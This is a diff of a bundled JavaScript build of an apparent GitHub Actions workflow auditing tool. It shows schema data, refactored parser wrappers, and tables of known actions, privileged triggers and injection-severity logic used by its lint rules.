action.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsuses)","mapping":{"properties":{"name":{"type":"string-steps-context","description":"A name for your step to display on GitHub.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsname)"},"id":{"type":"non-empty-string","description":"A unique identifier for the step. You can use the id to reference the step in contexts.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsid)"},"if":{"type":"step-if","description":"You can use the if conditional to prevent a step from running unless a condition is met. You can use any supported context and expression to create a conditional.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsif)"},"uses":{"type":"non-empty-string","required":true,"description":"Selects an action to run as part of a step in your action. An action is a reusable unit of code.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsuses)"},"with":"step-with","env":"step-env","continue-on-error":{"type":"boolean-steps-context","description":"Prevents the action from failing when a step fails. Set to true to allow the action to pass when this step fails.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepscontinue-on-error)"}}}},"string-steps-context":{"context":["github","inputs","strategy","matrix","steps","job","runner","env","hashFiles(1,255)"],"string":{}},"boolean-steps-context":{"context":["github","inputs","strategy","matrix","steps","job","runner","env","hashFiles(1,255)"],"boolean":{}},"step-env":{"description":"Sets variables for steps to use in the runner environment. You can also set variables for the entire action.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsenv)","context":["github","inputs","strategy","matrix","steps","job","runner","env","hashFiles(1,255)"],"mapping":{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"step-if":{"description":"You can use the if conditional to prevent a step from running unless a condition is met. You can use any supported context and expression to create a conditional.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepsif)","context":["github","inputs","strategy","matrix","steps","job","runner","env","always(0,0)","failure(0,0)","cancelled(0,0)","success(0,0)","hashFiles(1,255)"],"string":{}},"step-with":{"description":"A map of the input parameters defined by the action. Each input parameter is a key/value pair.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsstepswith)","context":["github","inputs","strategy","matrix","steps","job","runner","env","hashFiles(1,255)"],"mapping":{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"branding":{"description":"You can use a color and Feather icon to create a badge to personalize and distinguish your action in GitHub Marketplace.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#branding)","mapping":{"properties":{"icon":{"type":"branding-icon","description":"The name of the v4.28.0 Feather icon to use.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#brandingicon)"},"color":{"type":"branding-color","description":"The background color of the badge.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#brandingcolor)"}}}},"branding-icon":{"description":"The name of the v4.28.0 Feather icon to use. Brand icons are omitted as well as: coffee, columns, divide-circle, divide-square, divide, frown, hexagon, key, meh, mouse-pointer, smile, tool, x-octagon.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#brandingicon)","allowed-values":["activity","airplay","alert-circle","alert-octagon","alert-triangle","align-center","align-justify","align-left","align-right","anchor","aperture","archive","arrow-down-circle","arrow-down-left","arrow-down-right","arrow-down","arrow-left-circle","arrow-left","arrow-right-circle","arrow-right","arrow-up-circle","arrow-up-left","arrow-up-right","arrow-up","at-sign","award","bar-chart-2","bar-chart","battery-charging","battery","bell-off","bell","bluetooth","bold","book-open","book","bookmark","box","briefcase","calendar","camera-off","camera","cast","check-circle","check-square","check","chevron-down","chevron-left","chevron-right","chevron-up","chevrons-down","chevrons-left","chevrons-right","chevrons-up","circle","clipboard","clock","cloud-drizzle","cloud-lightning","cloud-off","cloud-rain","cloud-snow","cloud","code","command","compass","copy","corner-down-left","corner-down-right","corner-left-down","corner-left-up","corner-right-down","corner-right-up","corner-up-left","corner-up-right","cpu","credit-card","crop","crosshair","database","delete","disc","dollar-sign","download-cloud","download","droplet","edit-2","edit-3","edit","external-link","eye-off","eye","fast-forward","feather","file-minus","file-plus","file-text","file","film","filter","flag","folder-minus","folder-plus","folder","gift","git-branch","git-commit","git-merge","git-pull-request","globe","grid","hard-drive","hash","headphones","heart","help-circle","home","image","inbox","info","italic","layers","layout","life-buoy","link-2","link","list","loader","lock","log-in","log-out","mail","map-pin","map","maximize-2","maximize","menu","message-circle","message-square","mic-off","mic","minimize-2","minimize","minus-circle","minus-square","minus","monitor","moon","more-horizontal","more-vertical","move","music","navigation-2","navigation","octagon","package","paperclip","pause-circle","pause","percent","phone-call","phone-forwarded","phone-incoming","phone-missed","phone-off","phone-outgoing","phone","pie-chart","play-circle","play","plus-circle","plus-square","plus","pocket","power","printer","radio","refresh-ccw","refresh-cw","repeat","rewind","rotate-ccw","rotate-cw","rss","save","scissors","search","send","server","settings","share-2","share","shield-off","shield","shopping-bag","shopping-cart","shuffle","sidebar","skip-back","skip-forward","slash","sliders","smartphone","speaker","square","star","stop-circle","sun","sunrise","sunset","tablet","tag","target","terminal","thermometer","thumbs-down","thumbs-up","toggle-left","toggle-right","trash-2","trash","trending-down","trending-up","triangle","truck","tv","type","umbrella","underline","unlock","upload-cloud","upload","user-check","user-minus","user-plus","user-x","user","users","video-off","video","voicemail","volume-1","volume-2","volume-x","volume","watch","wifi-off","wifi","wind","x-circle","x-square","x","zap-off","zap","zoom-in","zoom-out"]},"branding-color":{"description":"The background color of the badge.\\n\\n[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#brandingcolor)","allowed-values":["white","yellow","blue","green","orange","red","purple","gray-dark"]},"using":{"description":"The runtime used to execute the action.","allowed-values":["docker","node12","node16","node20","node24","composite"]},"non-empty-string":{"string":{"require-non-empty":true}}}}');
 ;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/actions/action-schema.js
@@ -36399,7 +36420,7 @@ let action_schema_schema;
  * Returns the action.yml schema, lazily loading and caching it on first access.
  * The schema defines the structure and validation rules for action manifest files.
  */
-function getActionSchema() {
+function action_schema_getActionSchema() {
     if (action_schema_schema === undefined) {
         const json = JSON.stringify(action_v1_0_min_namespaceObject);
         action_schema_schema = TemplateSchema.load(new JSONObjectReader(undefined, json));
@@ -36413,7 +36434,7 @@ function getActionSchema() {
 
 
 
-function parseAction(entryFile, contextOrTrace) {
+function action_parser_parseAction(entryFile, contextOrTrace) {
     const context = contextOrTrace instanceof TemplateContext
         ? contextOrTrace
         : new TemplateContext(new TemplateValidationErrors(), getActionSchema(), contextOrTrace);
@@ -36429,36 +36450,16 @@ function parseAction(entryFile, contextOrTrace) {
             value: undefined
         };
     }
-    const result = readTemplate(context, ACTION_ROOT, reader, fileId);
+    const result = templateReader.readTemplate(context, ACTION_ROOT, reader, fileId);
     return {
         context,
         value: result
     };
 }
 //# sourceMappingURL=action-parser.js.map
-;// CONCATENATED MODULE: ./packages/workflows/src/github-parser.ts
-
-
-
-/**
- * Validates a workflow (schema, then the conversion that checks `needs:`, matrix and call
- * inputs) or an action's metadata with `@actions/workflow-parser`, GitHub's own parser.
- */
-async function githubParserErrors(kind, name, content) {
-    const file = { name, content };
-    const trace = new NoOperationTraceWriter();
-    const result = kind === 'workflow' ? parseWorkflow(file, trace) : parseAction(file, trace);
-    if (kind === 'workflow' && result.value) {
-        await convertWorkflowTemplate(result.context, result.value, undefined, { errorPolicy: ErrorPolicy.TryConversion });
-    }
-    return result.context.errors.getErrors().map((e) => ({
-        // The parser prefixes messages with the file name and position; we report those separately.
-        message: e.rawMessage,
-        line: e.range?.start.line ?? 1,
-        column: e.range?.start.column ?? 1,
-    }));
-}
-
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/actions/action-constants.js
+const action_constants_ACTION_ROOT = "action-root-strict";
+//# sourceMappingURL=action-constants.js.map
 ;// CONCATENATED MODULE: ./packages/workflows/src/yaml-tree.ts
 
 
@@ -36471,6 +36472,10 @@ function yaml_tree_parseYamlTree(content, source) {
         const at = counter.linePos(first.pos[0]);
         throw new src/* UserError */.yo(`${source}:${at.line}:${at.col}: not valid YAML: ${first.message.split('\n')[0] ?? ''}`);
     }
+    return treeFromDocument(doc, counter, content);
+}
+/** The located tree of a document the `yaml` package already parsed (GitHub's parser shares its parse). */
+function treeFromDocument(doc, counter, content) {
     const locate = (node, fallback) => {
         const offset = node?.range?.[0] ?? fallback;
         const pos = counter.linePos(offset);
@@ -36528,6 +36533,867 @@ function keyLine(node, key) {
     return node?.line ?? 1;
 }
 
+;// CONCATENATED MODULE: ./packages/workflows/src/github-parser.ts
+
+
+
+
+
+
+
+
+
+
+
+function errorsOf(context) {
+    return context.errors.getErrors().map((e) => ({
+        // The parser prefixes messages with the file name and position; we report those separately.
+        message: e.rawMessage,
+        line: e.range?.start.line ?? 1,
+        column: e.range?.start.column ?? 1,
+    }));
+}
+/**
+ * Validates a workflow (schema, then the conversion that checks `needs:`, matrix and call
+ * inputs) or an action's metadata with `@actions/workflow-parser`, GitHub's own parser.
+ */
+async function githubParserErrors(kind, name, content) {
+    const file = { name, content };
+    const trace = new NoOperationTraceWriter();
+    const result = kind === 'workflow' ? parseWorkflow(file, trace) : parseAction(file, trace);
+    if (kind === 'workflow' && result.value) {
+        await convertWorkflowTemplate(result.context, result.value, undefined, { errorPolicy: ErrorPolicy.TryConversion });
+    }
+    return errorsOf(result.context);
+}
+/**
+ * The same validation as githubParserErrors, reading the YAML once: GitHub's reader parses it
+ * with the `yaml` package, and the audit's located tree is built from that same document.
+ * `tree` is undefined when the file is not valid YAML.
+ */
+async function parseWithGitHub(kind, name, content) {
+    const context = new template_context_TemplateContext(new template_context_TemplateValidationErrors(), kind === 'workflow' ? getWorkflowSchema() : action_schema_getActionSchema(), new trace_writer_NoOperationTraceWriter());
+    const fileId = context.getFileId(name);
+    const reader = new yaml_object_reader_YamlObjectReader(fileId, content);
+    if (reader.errors.length > 0) {
+        for (const err of reader.errors)
+            context.error(fileId, err.message, err.range);
+        return { errors: errorsOf(context), tree: undefined };
+    }
+    const template = readTemplate(context, kind === 'workflow' ? WORKFLOW_ROOT : action_constants_ACTION_ROOT, reader, fileId);
+    if (kind === 'workflow' && template)
+        await convert_convertWorkflowTemplate(context, template, undefined, { errorPolicy: convert_ErrorPolicy.TryConversion });
+    const internal = reader;
+    return { errors: errorsOf(context), tree: treeFromDocument(internal.doc, internal.lineCounter, content) };
+}
+
+;// CONCATENATED MODULE: ./packages/workflows/src/known-actions.ts
+// Facts about well-known actions that the rules and fixes rely on. Each entry names where the
+// fact comes from: the input's description in the action's own action.yml (or README) at the
+// action's repository.
+/** Inputs whose value an action runs as code (a script, a shell command), by action. */
+const SCRIPT_INPUTS = {
+    'actions/github-script': { inputs: ['script'], language: 'JavaScript', source: 'actions/github-script action.yml: script' },
+    'azure/cli': { inputs: ['inlinescript'], language: 'shell', source: 'Azure/cli action.yml: inlineScript' },
+    'azure/powershell': { inputs: ['inlinescript'], language: 'PowerShell', source: 'Azure/powershell action.yml: inlineScript' },
+    'appleboy/ssh-action': { inputs: ['script'], language: 'remote shell', source: 'appleboy/ssh-action action.yml: script' },
+    'uraimo/run-on-arch-action': {
+        inputs: ['run', 'install'],
+        language: 'shell',
+        source: 'uraimo/run-on-arch-action action.yml: run, install',
+    },
+    'cross-platform-actions/action': { inputs: ['run'], language: 'shell', source: 'cross-platform-actions/action action.yml: run' },
+    'addnab/docker-run-action': { inputs: ['run'], language: 'shell', source: 'addnab/docker-run-action action.yml: run' },
+    'nick-fields/retry': { inputs: ['command', 'on_retry_command'], language: 'shell', source: 'nick-fields/retry action.yml: command' },
+    'wandalen/wretry.action': { inputs: ['command'], language: 'shell', source: 'Wandalen/wretry.action action.yml: command' },
+    'mikefarah/yq': { inputs: ['cmd'], language: 'shell', source: 'mikefarah/yq action.yml: cmd' },
+    'jannekem/run-python-script-action': {
+        inputs: ['script'],
+        language: 'Python',
+        source: 'jannekem/run-python-script-action action.yml: script',
+    },
+    'pytooling/actions/with-post-step': {
+        inputs: ['main', 'post'],
+        language: 'shell',
+        source: 'pyTooling/Actions with-post-step action.yml: main, post',
+    },
+    'cypress-io/github-action': {
+        inputs: ['build', 'start', 'command'],
+        language: 'shell',
+        source: 'cypress-io/github-action action.yml: build, start, command',
+    },
+    'garygrossgarten/github-action-ssh': {
+        inputs: ['command'],
+        language: 'remote shell',
+        source: 'garygrossgarten/github-action-ssh action.yml: command',
+    },
+    'google-github-actions/ssh-compute': {
+        inputs: ['command'],
+        language: 'remote shell',
+        source: 'google-github-actions/ssh-compute action.yml: command',
+    },
+    'jimcronqvist/action-ssh': { inputs: ['command'], language: 'remote shell', source: 'JimCronqvist/action-ssh action.yml: command' },
+    'matlab-actions/run-command': { inputs: ['command'], language: 'MATLAB', source: 'matlab-actions/run-command action.yml: command' },
+    'docker://': { inputs: ['args', 'entrypoint'], language: 'container command', source: 'workflow syntax: jobs.<id>.steps[*].with.args' },
+};
+/** Actions that restore a cache (and the input that turns restoring off), for cache poisoning. */
+const CACHE_AWARE = {
+    'actions/cache': {},
+    'actions/cache/restore': {},
+    'actions/setup-node': { opt: { input: 'cache', value: /./ } },
+    'actions/setup-python': { opt: { input: 'cache', value: /./ } },
+    'actions/setup-java': { opt: { input: 'cache', value: /./ } },
+    // setup-go restores a cache by default from v4 on (its README); earlier majors have no cache input.
+    'actions/setup-go': { off: { input: 'cache', value: 'false' }, sinceMajor: 4 },
+    'actions/setup-dotnet': { opt: { input: 'cache', value: /^true$/ } },
+    'astral-sh/setup-uv': { opt: { input: 'enable-cache', value: /^(true|auto)$/ } },
+    'swatinem/rust-cache': { off: { input: 'lookup-only', value: 'true' } },
+    'ruby/setup-ruby': { opt: { input: 'bundler-cache', value: /^true$/ } },
+    'pnpm/action-setup': {},
+    'gradle/actions/setup-gradle': { off: { input: 'cache-disabled', value: 'true' } },
+    'gradle/gradle-build-action': { off: { input: 'cache-disabled', value: 'true' } },
+    'mozilla-actions/sccache-action': {},
+    'hendrikmuhs/ccache-action': {},
+    'docker/setup-buildx-action': {},
+};
+/** Publishing actions that accept a long-lived token where the registry offers trusted publishing (OIDC). */
+const PUBLISHERS = {
+    'pypa/gh-action-pypi-publish': { tokenInputs: ['password'], registry: 'PyPI' },
+    'rubygems/release-gem': { tokenInputs: [], registry: 'RubyGems' },
+    'rubygems/configure-rubygems-credentials': { tokenInputs: ['api-token'], registry: 'RubyGems' },
+    'js-devtools/npm-publish': { tokenInputs: ['token'], registry: 'npm' },
+    'katyo/publish-crates': { tokenInputs: ['registry-token'], registry: 'crates.io' },
+};
+/** Actions whose work the runner's own tools (`gh`, `docker`, `jq`) do in a script step. */
+const SUPERFLUOUS = {
+    'ncipollo/release-action': 'use `gh release create` in a run step',
+    'softprops/action-gh-release': 'use `gh release create` / `gh release upload` in a run step',
+    'elgohr/github-release-action': 'use `gh release create` in a run step',
+    'svenstaro/upload-release-action': 'use `gh release upload` in a run step',
+    'dacbd/create-issue-action': 'use `gh issue create` in a run step',
+    'actions-ecosystem/action-add-labels': 'use `gh issue edit --add-label` in a run step',
+    'actions-ecosystem/action-remove-labels': 'use `gh issue edit --remove-label` in a run step',
+    'addnab/docker-run-action': 'use `docker run` in a run step, or a container step',
+    'sergeysova/jq-action': 'use `jq` (installed on hosted runners) in a run step',
+    'actions/create-release': 'archived: use `gh release create` in a run step',
+    'actions/upload-release-asset': 'archived: use `gh release upload` in a run step',
+};
+/** Repositories GitHub has archived, whose actions get no fixes (read from each repository's page). */
+const ARCHIVED = {
+    'actions/create-release': 'gh release create',
+    'actions/upload-release-asset': 'gh release upload',
+    'actions/setup-ruby': 'ruby/setup-ruby',
+    'actions/setup-elixir': 'erlef/setup-beam',
+    'actions/setup-haskell': 'haskell-actions/setup',
+    'actions-rs/toolchain': 'dtolnay/rust-toolchain or rustup in a run step',
+    'actions-rs/cargo': 'cargo in a run step',
+    'actions-rs/clippy-check': 'cargo clippy in a run step',
+    'actions-rs/audit-check': 'rustsec/audit-check',
+    'actions-rs/tarpaulin': 'cargo tarpaulin in a run step',
+    'actions-rs/grcov': 'grcov in a run step',
+    'actions/starter-workflows': '',
+};
+/** Inputs that select an unpinned tool version (`latest`), and whether leaving them out does too. */
+const UNPINNED_TOOLS = {
+    'aquasecurity/setup-trivy': { input: 'version', latest: /^latest$/, defaultUnpinned: true },
+    '1password/load-secrets-action': { input: 'version', latest: /^latest$/, defaultUnpinned: true },
+    'extractions/setup-just': { input: 'just-version', latest: /^\*$/, defaultUnpinned: true },
+    'golangci/golangci-lint-action': { input: 'version', latest: /^latest$/, defaultUnpinned: false },
+    'sigstore/cosign-installer': { input: 'cosign-release', latest: /^latest$/, defaultUnpinned: false },
+    'anchore/sbom-action': { input: 'syft-version', latest: /^latest$/, defaultUnpinned: false },
+    'hashicorp/setup-terraform': { input: 'terraform_version', latest: /^latest$/, defaultUnpinned: true },
+    'azure/setup-helm': { input: 'version', latest: /^latest$/, defaultUnpinned: true },
+    'azure/setup-kubectl': { input: 'version', latest: /^latest$/, defaultUnpinned: true },
+};
+/** Action repositories with the most dependents, for typosquatting comparisons. */
+const POPULAR_ACTIONS = [
+    'actions/checkout',
+    'actions/setup-node',
+    'actions/setup-python',
+    'actions/setup-java',
+    'actions/setup-go',
+    'actions/setup-dotnet',
+    'actions/cache',
+    'actions/upload-artifact',
+    'actions/download-artifact',
+    'actions/github-script',
+    'actions/labeler',
+    'actions/stale',
+    'actions/attest-build-provenance',
+    'actions/deploy-pages',
+    'actions/upload-pages-artifact',
+    'actions/configure-pages',
+    'actions/create-github-app-token',
+    'actions/dependency-review-action',
+    'github/codeql-action',
+    'docker/login-action',
+    'docker/build-push-action',
+    'docker/setup-buildx-action',
+    'docker/setup-qemu-action',
+    'docker/metadata-action',
+    'aws-actions/configure-aws-credentials',
+    'azure/login',
+    'google-github-actions/auth',
+    'google-github-actions/setup-gcloud',
+    'hashicorp/setup-terraform',
+    'peter-evans/create-pull-request',
+    'softprops/action-gh-release',
+    'codecov/codecov-action',
+    'pypa/gh-action-pypi-publish',
+    'ossf/scorecard-action',
+    'step-security/harden-runner',
+    'sigstore/cosign-installer',
+    'tj-actions/changed-files',
+    'dorny/paths-filter',
+    'golangci/golangci-lint-action',
+    'goreleaser/goreleaser-action',
+    'ruby/setup-ruby',
+    'astral-sh/setup-uv',
+    'pnpm/action-setup',
+    'swatinem/rust-cache',
+    'dtolnay/rust-toolchain',
+    'gradle/actions',
+    'slackapi/slack-github-action',
+    'jasonetco/create-an-issue',
+    'anchore/sbom-action',
+    'aquasecurity/trivy-action',
+    'shivammathur/setup-php',
+    'subosito/flutter-action',
+    'azure/webapps-deploy',
+    'mikefarah/yq',
+    'crazy-max/ghaction-import-gpg',
+];
+/** Token scopes a well-known action needs (from its README's "permissions" section). */
+const known_actions_PERMISSIONS_NEEDED = {
+    'actions/checkout': { contents: 'read' },
+    'actions/cache': {},
+    'actions/cache/save': {},
+    'actions/cache/restore': {},
+    'actions/setup-node': {},
+    'actions/setup-python': {},
+    'actions/setup-java': {},
+    'actions/setup-go': {},
+    'actions/setup-dotnet': {},
+    'actions/upload-artifact': {},
+    'actions/download-artifact': {},
+    'actions/upload-pages-artifact': {},
+    'actions/configure-pages': { pages: 'write' },
+    'actions/deploy-pages': { pages: 'write', 'id-token': 'write' },
+    'actions/labeler': { contents: 'read', 'pull-requests': 'write' },
+    'actions/stale': { issues: 'write', 'pull-requests': 'write' },
+    'actions/attest-build-provenance': { 'id-token': 'write', attestations: 'write' },
+    'actions/attest': { 'id-token': 'write', attestations: 'write' },
+    'actions/dependency-review-action': { contents: 'read' },
+    'github/codeql-action/init': { 'security-events': 'write', actions: 'read', contents: 'read' },
+    'github/codeql-action/analyze': { 'security-events': 'write', actions: 'read', contents: 'read' },
+    'github/codeql-action/autobuild': {},
+    'github/codeql-action/upload-sarif': { 'security-events': 'write' },
+    'ossf/scorecard-action': { 'security-events': 'write', 'id-token': 'write', contents: 'read', actions: 'read' },
+    'pypa/gh-action-pypi-publish': { 'id-token': 'write' },
+    'aws-actions/configure-aws-credentials': { 'id-token': 'write' },
+    'google-github-actions/auth': { 'id-token': 'write' },
+    'azure/login': { 'id-token': 'write' },
+    'softprops/action-gh-release': { contents: 'write' },
+    'ncipollo/release-action': { contents: 'write' },
+    'peter-evans/create-pull-request': { contents: 'write', 'pull-requests': 'write' },
+    'marocchino/sticky-pull-request-comment': { 'pull-requests': 'write' },
+    'step-security/harden-runner': {},
+    'sigstore/cosign-installer': {},
+    'docker/setup-buildx-action': {},
+    'docker/setup-qemu-action': {},
+    'docker/metadata-action': {},
+    'codecov/codecov-action': {},
+    'astral-sh/setup-uv': {},
+    'swatinem/rust-cache': {},
+    'dtolnay/rust-toolchain': {},
+    'ruby/setup-ruby': {},
+    'pnpm/action-setup': {},
+    'golangci/golangci-lint-action': { contents: 'read' },
+};
+/** Inputs of popular actions (from each action.yml's `inputs:`), for typo checks of `with:`. */
+const ACTION_INPUTS = {
+    'actions/checkout': [
+        'repository',
+        'ref',
+        'token',
+        'ssh-key',
+        'ssh-known-hosts',
+        'ssh-strict',
+        'ssh-user',
+        'persist-credentials',
+        'path',
+        'clean',
+        'filter',
+        'sparse-checkout',
+        'sparse-checkout-cone-mode',
+        'fetch-depth',
+        'fetch-tags',
+        'show-progress',
+        'lfs',
+        'submodules',
+        'set-safe-directory',
+        'github-server-url',
+    ],
+    'actions/cache': [
+        'path',
+        'key',
+        'restore-keys',
+        'upload-chunk-size',
+        'enablecrossosarchive',
+        'fail-on-cache-miss',
+        'lookup-only',
+        'save-always',
+    ],
+    'actions/upload-artifact': [
+        'name',
+        'path',
+        'if-no-files-found',
+        'retention-days',
+        'compression-level',
+        'overwrite',
+        'include-hidden-files',
+    ],
+    'actions/github-script': [
+        'script',
+        'github-token',
+        'debug',
+        'user-agent',
+        'previews',
+        'result-encoding',
+        'retries',
+        'retry-exempt-status-codes',
+        'base-url',
+    ],
+};
+/** Actions that upload files where others can read them (artifacts, pages). */
+const UPLOADERS = new Set(['actions/upload-artifact', 'actions/upload-pages-artifact']);
+
+;// CONCATENATED MODULE: ./packages/workflows/src/triggers.ts
+/**
+ * Triggers that run with the base repository's secrets and a writing token while outsiders
+ * choose the event's content: pull_request_target, workflow_run (after a fork's run), and the
+ * issue, comment and discussion events anyone can raise on a public repository.
+ */
+const PRIVILEGED_TRIGGERS = [
+    'pull_request_target',
+    'workflow_run',
+    'issue_comment',
+    'issues',
+    'discussion',
+    'discussion_comment',
+];
+/** Triggers whose runs carry outsiders' content without secrets (a fork's pull request). */
+const UNPRIVILEGED_OUTSIDER_TRIGGERS = ['pull_request', 'pull_request_review', 'pull_request_review_comment'];
+/** The exposure of a set of trigger names. */
+function exposureOf(triggers) {
+    const names = [...triggers];
+    if (names.some((t) => PRIVILEGED_TRIGGERS.includes(t)))
+        return 'privileged';
+    // A called workflow inherits its caller's trigger: assume it can be a privileged one.
+    if (names.includes('workflow_call'))
+        return 'internal';
+    if (names.length > 0 && names.every((t) => UNPRIVILEGED_OUTSIDER_TRIGGERS.includes(t)))
+        return 'unprivileged';
+    return 'internal';
+}
+/**
+ * Severity of outsiders' data reaching code: free text in a privileged trigger is critical, in a
+ * push or call (merged commit messages, a caller's event) high, in a fork's own unprivileged run
+ * medium; constrained values cannot carry shell syntax and are low.
+ */
+function injectionSeverity(taint, exposure) {
+    if (taint === 'trusted')
+        return undefined;
+    if (taint === 'constrained')
+        return 'low';
+    return exposure === 'privileged' ? 'critical' : exposure === 'internal' ? 'high' : 'medium';
+}
+
+;// CONCATENATED MODULE: ./packages/workflows/src/workflow-model.ts
+
+
+function stepsOf(node) {
+    return yaml_tree_items(node).map((step, index) => ({
+        node: step,
+        line: step.line,
+        index,
+        id: yaml_tree_text(yaml_tree_child(step, 'id')),
+        uses: yaml_tree_text(yaml_tree_child(step, 'uses'))?.trim(),
+        usesLine: yaml_tree_child(step, 'uses')?.line ?? step.line,
+        run: yaml_tree_text(yaml_tree_child(step, 'run')),
+        runLine: yaml_tree_child(step, 'run')?.line ?? step.line,
+        with: yaml_tree_child(step, 'with'),
+        env: yaml_tree_child(step, 'env'),
+    }));
+}
+/** Builds the model of a parsed workflow or action file. */
+function workflowModel(kind, doc) {
+    const root = doc.root;
+    const triggers = new Map();
+    // YAML 1.1 readers turn a bare `on` into true; the `yaml` package keeps the key as 'on'.
+    const on = yaml_tree_child(root, 'on') ?? yaml_tree_child(root, 'true');
+    if (on?.kind === 'map')
+        for (const [name] of yaml_tree_entries(on))
+            triggers.set(name, keyLine(on, name));
+    else
+        for (const item of yaml_tree_items(on))
+            if (yaml_tree_text(item))
+                triggers.set(yaml_tree_text(item) ?? '', item.line);
+    const inputs = new Map();
+    const jobs = [];
+    if (kind === 'workflow') {
+        for (const event of ['workflow_dispatch', 'workflow_call']) {
+            for (const [name, def] of yaml_tree_entries(yaml_tree_child(yaml_tree_child(on, event), 'inputs')))
+                if (!inputs.has(name) || event === 'workflow_call')
+                    inputs.set(name, { type: yaml_tree_text(yaml_tree_child(def, 'type')) ?? 'string', node: def });
+        }
+        for (const [id, job] of yaml_tree_entries(yaml_tree_child(root, 'jobs'))) {
+            jobs.push({
+                id,
+                node: job,
+                line: keyLine(yaml_tree_child(root, 'jobs'), id),
+                calls: yaml_tree_text(yaml_tree_child(job, 'uses'))?.trim(),
+                steps: stepsOf(yaml_tree_child(job, 'steps')),
+                needs: yaml_tree_items(yaml_tree_child(job, 'needs'))
+                    .map(yaml_tree_text)
+                    .filter((n) => n !== undefined),
+                env: yaml_tree_child(job, 'env'),
+                matrix: yaml_tree_child(yaml_tree_child(job, 'strategy'), 'matrix'),
+            });
+        }
+    }
+    else {
+        for (const [name, def] of yaml_tree_entries(yaml_tree_child(root, 'inputs')))
+            inputs.set(name, { type: 'string', node: def });
+        const runs = yaml_tree_child(root, 'runs');
+        if (yaml_tree_text(yaml_tree_child(runs, 'using')) === 'composite') {
+            jobs.push({
+                id: '(composite)',
+                node: runs ?? root,
+                line: runs?.line ?? 1,
+                calls: undefined,
+                steps: stepsOf(yaml_tree_child(runs, 'steps')),
+                needs: [],
+                env: undefined,
+                matrix: undefined,
+            });
+        }
+    }
+    const exposure = kind === 'action' ? 'internal' : exposureOf(triggers.keys());
+    return { kind, doc, root, triggers, on, exposure, jobs, env: yaml_tree_child(root, 'env'), inputs };
+}
+/** The action a `uses:` names, without its ref: `actions/checkout`, `./local`, `docker://img`. */
+function workflow_model_actionName(uses) {
+    const at = uses.lastIndexOf('@');
+    return (at > 0 && !uses.startsWith('docker://') ? uses.slice(0, at) : uses).toLowerCase();
+}
+/** The `owner/repo` of an action (`actions/cache/save` is `actions/cache`), lower case. */
+function actionRepo(uses) {
+    return workflow_model_actionName(uses).split('/').slice(0, 2).join('/');
+}
+/** `owner/repo[/path]@ref` split into its parts; undefined for local (`./`, `$/`) and docker uses. */
+function workflow_model_remoteUses(uses) {
+    const trimmed = uses.trim();
+    if (trimmed.startsWith('./') || trimmed.startsWith('$/') || trimmed.startsWith('docker://'))
+        return undefined;
+    const at = trimmed.lastIndexOf('@');
+    const name = at < 0 ? trimmed : trimmed.slice(0, at);
+    const [owner = '', repo = '', ...path] = name.split('/');
+    return { owner: owner.toLowerCase(), repo: repo.toLowerCase(), path: path.join('/'), ref: at < 0 ? '' : trimmed.slice(at + 1) };
+}
+/** The scalar value of `with.<input>` of a step. */
+function withValue(step, input) {
+    return yaml_tree_text(yaml_tree_child(step.with, input));
+}
+/** The taint scope of a step: its env, the job's and the workflow's; the job's static matrix; the declared inputs. */
+function stepScope(model, job, step) {
+    return {
+        env(name) {
+            for (const scope of [step?.env, job.env, model.env]) {
+                const v = yaml_tree_child(scope, name);
+                if (v)
+                    return yaml_tree_text(v) ?? '';
+            }
+            return undefined;
+        },
+        matrix(name) {
+            const m = job.matrix;
+            if (!m)
+                return undefined;
+            const whole = yaml_tree_text(m);
+            if (whole !== undefined)
+                return /\$\{\{/.test(whole) ? { expression: whole.replace(/^\s*\$\{\{|\}\}\s*$/g, '') } : { literal: true };
+            const values = [...yaml_tree_items(yaml_tree_child(m, name)), ...yaml_tree_items(yaml_tree_child(m, 'include')).map((i) => yaml_tree_child(i, name))].filter((v) => v !== undefined);
+            const dynamic = values.map(yaml_tree_text).find((v) => v !== undefined && /\$\{\{/.test(v));
+            if (dynamic)
+                return { expression: dynamic.replace(/^\s*\$\{\{|\}\}\s*$/g, '') };
+            return { literal: true };
+        },
+        inputType: (name) => model.inputs.get(name)?.type,
+        inputsFromCaller: model.kind === 'action' || model.triggers.has('workflow_call'),
+        stepUses: (id) => job.steps.find((s) => s.id === id)?.uses,
+    };
+}
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/action-inputs.ts
+
+
+
+/** The declared inputs of a local action (`./path`), from its action.yml, with which are required. */
+function localInputs(content, source) {
+    try {
+        const root = yaml_tree_parseYamlTree(content, source).root;
+        const out = new Map();
+        for (const [name, def] of yaml_tree_entries(yaml_tree_child(root, 'inputs')))
+            out.set(name.toLowerCase(), yaml_tree_text(yaml_tree_child(def, 'required')) === 'true' && yaml_tree_child(def, 'default') === undefined);
+        return out;
+    }
+    catch {
+        return undefined;
+    }
+}
+/** `with:` keys an action does not declare, and required inputs left out (local actions and popular ones). */
+const actionInputs = {
+    id: 'action-inputs',
+    title: 'Input the action does not have, or a required one missing',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'validation',
